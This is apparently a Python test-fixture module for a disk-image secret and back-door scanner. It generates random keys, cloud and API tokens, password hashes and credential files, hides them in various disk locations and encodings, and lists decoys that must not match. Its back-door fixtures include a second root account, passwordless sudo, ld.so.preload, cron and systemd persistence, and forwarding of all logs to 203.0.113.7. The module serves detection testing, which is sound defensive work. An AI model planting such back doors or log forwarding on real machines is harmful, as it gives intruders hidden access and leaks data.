"""What is planted: secrets made at run time, of kinds that people leave behind, and decoys that must stay silent."""

import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import secrets
import sqlite3
import string
import struct
import tarfile
import tempfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import zstandard
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import dsa, ec, ed25519, rsa

from pipeline.residue.secrets import AwsSession, BuildSecret, build_secrets

LETTERS = string.ascii_letters + string.digits
BASE62 = string.digits + string.ascii_uppercase + string.ascii_lowercase


@dataclass(frozen=True)
class Plant:
    """Something that a scan must find: which control, and where it is put."""

    name: str
    control: str
    where: str
    """`file:PATH`, `deleted:PATH`, `truncated:PATH`, `edited:PATH` as by `sed -i`, or `free` `slack` `journal` `swap`
    `lvm` (an orphaned volume) `gap` (before the first partition) `end` `join` `fragments` `xattr`."""
    content: bytes
    mode: int = 0
    """The file's permissions, where they matter."""
    also: str = ""
    """The row about searching that it stands for: R03 for a secret of the build, R04 for what is packed or encoded."""

    @property
    def rows(self) -> set[str]:
        """The rows of the catalogue that it violates. What lies in no file is left in free space (S22), or is R05."""
        in_file = self.where.startswith("file:") or self.where == "fragments"
        left = set() if in_file else {"S22", "R05"} if self.control == "S04" else {"S22"}
        return {self.control, *left, *filter(None, [self.also])}


@dataclass(frozen=True)
class Decoy:
    """Something that looks like a secret and is none."""

    name: str
    path: str
    content: bytes


def word(size: int, alphabet: str = LETTERS) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(size))


def checked_token(prefix: str) -> bytes:
    body = word(30)
    number, digits = zlib.crc32(body.encode()), ""
    for _ in range(6):
        number, digit = divmod(number, 62)
        digits = BASE62[digit] + digits
    return f"{prefix}{body}{digits}".encode()


def aws_id(prefix: str = "AKIA") -> str:
    return prefix + word(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")


def aws_secret() -> str:
    return base64.b64encode(os.urandom(30)).decode()


def private_key(kind: str, form: str = "PKCS8", password: bytes | None = None) -> bytes:
    makers = {
        "rsa": lambda: rsa.generate_private_key(65537, 2048),
        "ec": lambda: ec.generate_private_key(ec.SECP256R1()),
        "ed25519": ed25519.Ed25519PrivateKey.generate,
        "dsa": lambda: dsa.generate_private_key(2048),
    }
    encryption = serialization.BestAvailableEncryption(password) if password else serialization.NoEncryption()
    encoding = serialization.Encoding.DER if form == "DER" else serialization.Encoding.PEM
    format_ = getattr(serialization.PrivateFormat, "PKCS8" if form == "DER" else form)
    return makers[kind]().private_bytes(encoding, format_, encryption)


def public_key(comment: str) -> bytes:
    key = ed25519.Ed25519PrivateKey.generate().public_key()
    return (
        key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH) + f" {comment}\n".encode()
    )


def age_key() -> bytes:
    letters = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
    data = [secrets.randbelow(32) for _ in range(51)] + [secrets.randbelow(2) * 16]

    def polymod(values: list[int]) -> int:
        check = 1
        for value in values:
            top, check = check >> 25, (check & 0x1FFFFFF) << 5 ^ value
            for bit, generator in enumerate((0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)):
                check ^= generator if top >> bit & 1 else 0
        return check

    human = "age-secret-key-"
    spread = [ord(letter) >> 5 for letter in human] + [0] + [ord(letter) & 31 for letter in human]
    check = polymod([*spread, *data, 0, 0, 0, 0, 0, 0]) ^ 1
    data += [check >> 5 * (5 - place) & 31 for place in range(6)]
    return (human + "1" + "".join(letters[value] for value in data)).upper().encode()


def json_web_token() -> bytes:
    parts = [
        json.dumps(part).encode() for part in ({"alg": "HS256", "typ": "JWT"}, {"sub": word(12), "iat": 1790000000})
    ]
    return b".".join(base64.urlsafe_b64encode(part).rstrip(b"=") for part in (*parts, os.urandom(32)))


def history(secret: str) -> bytes:
    return f"ls -la\ncd /srv/app\nsudo systemctl restart app\nmysql -u root -p{secret}\nvim /etc/hosts\nexit\n".encode()


def shadow(name: str) -> bytes:
    return f"{name}:$y$j9T${word(22, './' + LETTERS)}${word(43, './' + LETTERS)}:19700:0:99999:7:::\n".encode()


def database(text: bytes) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "app.db"
        connection = sqlite3.connect(path)
        connection.execute("create table settings (name text, value text)")
        connection.execute("insert into settings values ('token', ?)", (text.decode(),))
        connection.commit()
        connection.close()
        return path.read_bytes()


def layer(text: bytes) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w:gz") as archive:
        member = tarfile.TarInfo("app/.env")
        member.size = len(text)
        archive.addfile(member, io.BytesIO(text))
    return file.getvalue()


def zipped(text: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("settings.ini", text)
    return file.getvalue()


def core(text: bytes) -> bytes:
    header = (
        b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 4, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
    )
    return header + os.urandom(4000) + text


def noise(size: int = 2000) -> bytes:
    return b"\n".join(word(60).encode() for _ in range(size // 61))


def padded(pack: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    return lambda secret: pack(noise() + b"\n" + secret + b"\n" + noise())


@dataclass(frozen=True)
class Build:
    """What a build used, and must not leave."""

    password: str = field(default_factory=lambda: word(16))
    token: str = field(default_factory=lambda: word(24))
    machine_id: str = field(default_factory=lambda: os.urandom(16).hex())
    key: bytes = field(default_factory=lambda: private_key("ed25519", "OpenSSH"))
    host_key: bytes = field(default_factory=lambda: public_key("root@build"))
    session: AwsSession = field(default_factory=lambda: AwsSession(aws_id("ASIA"), aws_secret(), word(200)))

    @property
    def user_data(self) -> str:
        """The user-data of the build's instance."""
        return f"#cloud-config\nchpasswd: {{list: 'admin:{self.password}'}}\nruncmd: [/srv/enrol-{self.token}]\n"

    def secrets(self) -> tuple[BuildSecret, ...]:
        """Return what is searched for."""
        return build_secrets(
            private_keys={"launch key": self.key.decode()},
            host_public_keys=[self.host_key.decode()],
            user_data=self.user_data,
            passwords={"password of admin": self.password},
            tokens={"enrolment token": self.token},
            aws_sessions=[self.session],
            identities={"machine id": self.machine_id},
        )

    def plants(self) -> Iterator[Plant]:
        """Yield what it left."""
        texts = (
            ("its password in hexadecimal", "H14", "free", self.password.encode().hex().encode()),
            ("its password in UTF-16", "H14", "swap", self.password.encode("utf-16-le")),
            ("its token, deleted", "S07", "deleted:/root/enrol.sh", b"curl -H " + self.token.encode() + b" x\n"),
            ("its token in xz", "S07", "free", padded(lzma.compress)(self.token.encode())),
            ("its key as a file of another kind", "S03", "free", self.key),
            ("its user-data", "S11", "file:/opt/app/seed", self.user_data.encode()),
            ("its host key in base64", "S01", "free", base64.b64encode(b"line " + self.host_key)),
            ("the operator's secret", "S06", "file:/opt/app/log", b"secret " + self.session.secret_access_key.encode()),
            ("its machine id in bytes", "S12", "free", bytes.fromhex(self.machine_id)),
        )
        for name, control, where, content in texts:
            yield Plant(name, control, where, content, also="R03")


FORBIDDEN = "/opt/vendor/*/*.key"
"""What the spec of a planted disk says may not be passed on: no pattern knows it."""

SYSTEM = {
    "/etc/os-release": b"ID=debian\nVERSION_ID=12\n",
    "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n",
    "/opt/app/deploy.sh": b"nothing\n",
    "/usr/bin/tool": b"\x7fELF tool of a package",
    "/var/lib/dpkg/info/tool.list": b"/.\n/usr/bin/tool\n",
    "/var/lib/dpkg/info/tool.md5sums": hashlib.md5(b"\x7fELF tool of a package").hexdigest().encode()
    + b"  usr/bin/tool\n",
}
"""A system of one package, which the back doors are planted in."""


def back_doors() -> list[Plant]:
    """Return ways back in, as those who publish an image may leave them."""
    authority = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(os.urandom(700)) + b"-----END CERTIFICATE-----\n"
    return [
        Plant("authority of sshd", "V01", "file:/etc/ssh/sshd_config.d/9.conf", b"TrustedUserCAKeys /etc/ssh/ca\n"),
        Plant("signer of packages", "V01", "file:/etc/apt/trusted.gpg.d/x.gpg", os.urandom(600)),
        Plant("second root", "V02", "file:/etc/passwd", SYSTEM["/etc/passwd"] + b"toor:x:0:0::/root:/bin/sh\n"),
        Plant("sudo without a password", "V02", "file:/etc/sudoers.d/helper", b"daemon ALL=(ALL) NOPASSWD: ALL\n"),
        Plant("set-user-id program", "V03", "file:/usr/lib/helper", b"\x7fELF" + os.urandom(100), 0o4755),
        Plant("job of cron", "V04", "file:/etc/cron.d/sync", b"* * * * * root /opt/sync\n"),
        Plant("unit", "V04", "file:/etc/systemd/system/sync.service", b"[Service]\nExecStart=/opt/sync\n"),
        Plant("start-up script", "V04", "file:/etc/rc.local", b"#!/bin/sh\n/opt/sync &\n", 0o755),
        Plant("library for all programs", "V05", "file:/etc/ld.so.preload", b"/usr/lib/libx.so\n"),
        Plant("changed program", "V05", "file:/usr/bin/tool", b"\x7fELF tool of somebody", 0o755),
        Plant("certificate authority", "V06", "file:/usr/local/share/ca-certificates/x.crt", authority),
        Plant("log that is sent away", "V07", "file:/etc/rsyslog.d/x.conf", b"*.* @@203.0.113.7:514\n"),
        Plant("program of no package", "V08", "file:/usr/local/bin/netd", b"\x7fELF" + os.urandom(100), 0o755),
        Plant("kernel module", "V09", "file:/usr/lib/modules/6.1.0/extra/x.ko", b"\x7fELF" + os.urandom(100)),
        Plant("file of no package", "V10", "file:/usr/share/x/data", os.urandom(100)),
    ]


def plants() -> list[Plant]:
    """Return what images were found to hold, or hold after a careless build; all of it made now."""
    github, stripe = (lambda: checked_token("ghp_")), (lambda: f"sk_live_{word(24)}".encode())
    gz, xz = padded(gzip.compress), padded(lzma.compress)
    key = private_key("ed25519", "OpenSSH")
    return [
        Plant("host key", "S01", "file:/etc/ssh/ssh_host_ed25519_key", private_key("ed25519", "OpenSSH")),
        Plant("deleted host key", "S03", "free", private_key("ed25519", "OpenSSH")),
        Plant("host key's public half", "S01", "free", public_key("root@build-guest")),
        Plant("login key", "S02", "file:/root/.ssh/authorized_keys", public_key("somebody@laptop")),
        Plant(
            "second file of login keys", "S02", "file:/home/admin/.ssh/authorized_keys2", public_key("another@laptop")
        ),
        Plant(
            "login key of a daemon", "S02", "file:/var/lib/postgresql/.ssh/authorized_keys", public_key("dba@laptop")
        ),
        Plant("deleted login key", "S02", "free", public_key("gone@laptop")),
        Plant("login key in the journal", "S02", "journal", public_key("journal@laptop")),
        Plant("RSA key", "S03", "file:/home/admin/backup.txt", private_key("rsa", "TraditionalOpenSSL")),
        Plant("EC key", "S03", "free", private_key("ec", "TraditionalOpenSSL")),
        Plant("DSA key", "S03", "free", private_key("dsa", "TraditionalOpenSSL")),
        Plant("PKCS #8 key", "S03", "free", private_key("rsa")),
        Plant("encrypted key", "S03", "free", private_key("rsa", "PKCS8", b"a password")),
        Plant("DER key", "S03", "file:/opt/app/key.der", private_key("rsa", "DER")),
        Plant("DER ed25519 key", "S03", "free", private_key("ed25519", "DER")),
        Plant("cut key", "S03", "free", key[: len(key) * 2 // 3]),
        Plant("key across a join", "S03", "join", private_key("rsa", "OpenSSH"), also="R04"),
        Plant("age key", "S03", "file:/root/keys.txt", age_key() + b"\n"),
        Plant("known host", "S03", "file:/root/.ssh/known_hosts", b"10.0.0.7 " + public_key("")),
        Plant("bash history", "S04", "file:/root/.bash_history", b"something nobody has a pattern for\n"),
        Plant("history rewritten at logout", "S04", "free", history(word(12))),
        Plant(
            "history with times",
            "S04",
            "free",
            b"\n#1790000001\nkubectl get pods\n#1790000009\nhelm ls\n#1790000019\nid\n",
        ),
        Plant("zsh history", "S04", "free", b"\n: 1790000001:0;scp a b:\n: 1790000002:0;ls\n"),
        Plant(
            "fish history", "S04", "free", b"- cmd: rm -rf build\n  when: 1790000001\n- cmd: ls\n  when: 1790000002\n"
        ),
        Plant(
            "history in a home that is not in /home",
            "S04",
            "file:/var/lib/app/.mysql_history",
            b"_HiStOrY_V2_\ngrant\\040all;\n",
        ),
        Plant("vim's history", "S04", "file:/root/.viminfo", b"# This viminfo file was generated by Vim 9.0.\n"),
        Plant("X.509 key", "S05", "file:/root/pk-ABCDEFGHIJKLMNOPQRSTUVWXYZ234567.pem", private_key("rsa")),
        Plant(
            "AWS key pair",
            "S06",
            "free",
            f"[default]\naws_access_key_id = {aws_id()}\naws_secret_access_key = {aws_secret()}\n".encode(),
        ),
        Plant("AWS key id alone", "S06", "slack", f" key {aws_id()} ".encode()),
        Plant(
            "AWS session",
            "S06",
            "swap",
            f'{{"AccessKeyId" : "{aws_id("ASIA")}", "SecretAccessKey" : "{aws_secret()}"}}'.encode(),
        ),
        Plant(
            "AWS secret in UTF-16",
            "S06",
            "free",
            f"aws_secret_access_key={aws_secret()}\r\n".encode("utf-16"),
            also="R04",
        ),
        Plant(
            "AWS keys in base64", "S06", "free", base64.b64encode(f"id={aws_id()} secret={aws_secret()} end".encode())
        ),
        Plant("s3fs", "S06", "file:/etc/passwd-s3fs", f"{aws_id()}:{aws_secret()}\n".encode()),
        Plant(
            "Google service account",
            "S06",
            "free",
            json.dumps({"type": "service_account", "private_key_id": os.urandom(20).hex()}).encode(),
        ),
        Plant("Azure storage", "S06", "free", b"AccountKey=" + base64.b64encode(os.urandom(64)) + b";"),
        Plant("deleted GitHub token", "S07", "deleted:/root/notes.txt", b"token " + github() + b"\n"),
        Plant("token that was truncated", "S07", "truncated:/opt/app/session", b"token " + github() + b"\n"),
        Plant("token that sed -i took out", "S07", "edited:/opt/app/deploy.sh", b"#!/bin/sh\n# " + github() + b"\n"),
        Plant("GitHub token before the first partition", "S07", "gap", github()),
        Plant("GitHub token behind the last partition", "S07", "end", github()),
        Plant("GitHub token in gzip", "S07", "file:/var/backups/notes.gz", gz(github()), also="R04"),
        Plant("GitHub token in gzip without footer", "S07", "free", gz(github())[:-8], also="R04"),
        Plant("GitHub token in xz", "S07", "free", xz(github()), also="R04"),
        Plant("GitHub token in bzip2", "S07", "free", padded(bz2.compress)(github()), also="R04"),
        Plant("GitHub token in zstd", "S07", "free", padded(zstandard.compress)(github()), also="R04"),
        Plant("GitHub token in a zip", "S07", "free", zipped(noise() + github()), also="R04"),
        Plant("token in an SQLite database", "S07", "file:/opt/app/app.db", database(github())),
        Plant(
            "token in a container layer",
            "S07",
            "file:/opt/app/layer.tar.gz",
            layer(b"API=" + github() + b"\n"),
            also="R04",
        ),
        Plant("token in an extended attribute", "S07", "xattr", github()),
        Plant("token cut by fragments", "S07", "fragments", github()),
        Plant("token in a swap partition", "S07", "swap", b"npm " + checked_token("npm_")),
        Plant("token in an orphaned volume", "S07", "lvm", b"token: " + github()),
        Plant(
            "Slack token",
            "S07",
            "free",
            f"xoxb-{word(12, string.digits)}-{word(12, string.digits)}-{word(24)}".encode(),
        ),
        Plant("Stripe key", "S07", "free", b"STRIPE=" + stripe()),
        Plant("Stripe key in UTF-16 BE", "S07", "free", stripe().decode().encode("utf-16-be"), also="R04"),
        Plant("GitLab token", "S07", "free", f"glpat-{word(20)} ".encode()),
        Plant("JSON web token", "S07", "free", b"Authorization: Bearer " + json_web_token() + b"\n"),
        Plant("PyPI token", "S07", "free", f"pypi-AgEIcHlwaS5vcmc{word(120)}\n".encode()),
        Plant("Vault token", "S07", "free", f"VAULT_TOKEN=hvs.{word(90)}\n".encode()),
        Plant(
            "registry login",
            "S07",
            "file:/root/.docker/config.json",
            b'{"auths": {"r.io": {"auth": "' + base64.b64encode(f"bob:{word(14)}".encode()) + b'"}}}',
        ),
        Plant(".netrc", "S07", "free", f"machine api.acme.io login bob password {word(14)}\n".encode()),
        Plant(".pgpass", "S07", "free", f"\ndb.acme.io:5432:app:bob:{word(14)}\n".encode()),
        Plant(".my.cnf", "S07", "free", f"\n[client]\nuser=root\npassword={word(14)}\n".encode()),
        Plant("environment file", "S07", "file:/opt/app/settings", f"DB_PASSWORD=Zq7!{word(12)}\n".encode()),
        Plant(
            "kubeconfig",
            "S07",
            "free",
            b"    client-key-data: " + base64.b64encode(private_key("rsa", "TraditionalOpenSSL")) + b"\n",
        ),
        Plant(
            "login in an apt proxy",
            "S08",
            "file:/etc/apt/apt.conf.d/01proxy",
            f'Acquire::http::Proxy "http://bob:{word(10)}@proxy.acme.io:3128";\n'.encode(),
        ),
        Plant(
            "login in an apt auth.conf",
            "S08",
            "file:/etc/apt/auth.conf",
            f"machine https://deb.acme.io login bob password {word(12)}\n".encode(),
        ),
        Plant("shadow with a password", "H14", "file:/etc/shadow", shadow("admin")),
        Plant("back-up of shadow", "S09", "file:/etc/shadow-", b"root:*:19700:0:99999:7:::\n"),
        Plant("deleted shadow", "H14", "free", shadow("leaver")),
        Plant(
            "sudo of the build's user", "S10", "file:/etc/sudoers.d/90-cloud-init-users", b"admin ALL=NOPASSWD:ALL\n"
        ),
        Plant("machine id", "S12", "file:/etc/machine-id", os.urandom(16).hex().encode() + b"\n"),
        Plant("layer of a container", "S19", "file:/var/lib/docker/overlay2/0a/diff/app/run", b"no pattern\n"),
        Plant("user-data", "S11", "file:/var/lib/cloud/instance/user-data.txt", b"#cloud-config\nruncmd: []\n"),
        Plant("instance id", "S11", "free", f"/var/lib/cloud/instances/i-0{word(16, '0123456789abcdef')}\n".encode()),
        Plant("random seed", "S12", "file:/var/lib/systemd/random-seed", os.urandom(512)),
        Plant("DHCP lease", "S13", "free", b'\nlease {\n  interface "eth0";\n  fixed-address 10.0.0.7;\n}\n'),
        Plant(
            "log of a login",
            "S14",
            "free",
            b"sshd[812]: Accepted publickey for admin from 203.0.113.7 port 51234 ssh2\n",
        ),
        Plant(
            "log of sudo",
            "S14",
            "free",
            b"sudo:  admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/id\n",
        ),
        Plant("login record", "S14", "file:/var/log/wtmp", os.urandom(384)),
        Plant(
            "apt's history",
            "S15",
            "free",
            b"\nStart-Date: 2026-11-22  18:00:01\nCommandline: apt-get install secret-agent\n",
        ),
        Plant("temporary file", "S16", "file:/tmp/.packer-script", b"#!/bin/sh\n"),
        Plant("core dump", "S17", "free", core(b"in memory: " + github())),
        Plant("crash report", "S17", "file:/var/crash/app.crash", b"ProblemType: Crash\n"),
        Plant("SSM registration", "S18", "free", b'{"ManagedInstanceID":"mi-0123456789abcde02","Region":"eu-west-1"}'),
        Plant("sudo's time stamp", "S20", "file:/var/lib/sudo/ts/admin", os.urandom(64)),
        Plant("swap file", "S21", "file:/swapfile", os.urandom(4096)),
        Plant("licence of a vendor", "S23", "file:/opt/vendor/site/licence.key", os.urandom(64)),
    ]


def decoys() -> list[Decoy]:
    certificate = (
        b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(os.urandom(700)) + b"-----END CERTIFICATE-----\n"
    )
    shape = b"-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END RSA PRIVATE KEY-----\n"
    texts: dict[str, bytes] = {
        "documentation key id": b"AKIAIOSFODNN7EXAMPLE and AKIAI44QH8DHBEXAMPLE",
        "documentation secret": b"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "CA bundle": certificate * 8,
        "shape of a key": shape,
        "headers of keys": b"-----BEGIN PRIVATE KEY-----\n-----END PRIVATE KEY-----\nBEGIN OPENSSH PRIVATE KEY",
        "moduli": b"20230101000000 2 6 100 3071 2 " + os.urandom(384).hex().upper().encode(),
        "hashes": b"\n".join(os.urandom(32).hex().encode() for _ in range(200)),
        "UUIDs": b"\n".join(b"6f1c9c3e-58a7-4f53-9c1e-0123456789ab" for _ in range(20)),
        "GitHub token with a wrong checksum": b"ghp_" + b"a1B2c3D4e5" * 3 + b"F6g7H8",
        "npm word": b"npm_config_registry npm_lifecycle_event npm_package_json_longer_than_a_token_is_here",
        "the printed web token": b".".join(
            (
                b"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
                b"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ",
                b"SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
            )
        ),
        "locked accounts": b"root:*:19700:0:99999:7:::\nadmin:!:19700:0:99999:7:::\n",
        "placeholder in a URL": b"postgres://user:password@localhost/db http://user:${PASSWORD}@proxy https://<u>:<pass>@host",
        "port in a URL": b"http://localhost:8080/path https://example.com:443/@scope/package",
        "manual of .netrc": b"machine HOST login USER password PASSWORD",
        "password prompt": b"PASSWORD=%s\nDB_PASSWORD=$DB_PASSWORD\nAPI_TOKEN=<your token>\nSECRET_KEY=changeme",
        "shell script": b'#!/bin/sh\nset -e\nif [ -n "$1" ]; then\n  sudo rm -f x\nfi\nexit\nls -l\ncd ..\nexit 0\n',
        "manual of a lease": b'lease { } in dhclient.leases(5): "interface"',
        "instance id of a manual": b"i-1234567890abcdef0 and i-0123456789abcdef0",
        "machine id, empty": b"uninitialized",
        "long base64": base64.encodebytes(os.urandom(6000)),
        "random bytes": os.urandom(60000),
        "ELF executable": b"\x7fELF\x02\x01\x01"
        + bytes(9)
        + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0),
        "strings of sshd": b"Accepted %s for %s%.100s from %.200s port %d ssh2\0Failed publickey for %s",
        "public key of a manual": b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI... user@host\nssh-rsa AAAAB3Nza...LiPk==",
        "gzip of nothing": gzip.compress(b"nothing here\n" * 1000),
        "strings of vim": b"# This viminfo file was generated by Vim %s.\n",
        "kubernetes manual": b"    client-key-data: REDACTED\n    token: <token>",
        "Slack word": b"xoxb-not-a-real-token xoxp-",
        "hex of a colour": b"key-" + b"0" * 32 + b" hf_" + b"a" * 34,
    }
    return [Decoy(name, f"/usr/share/doc/decoy-{number}", text) for number, (name, text) in enumerate(texts.items())]
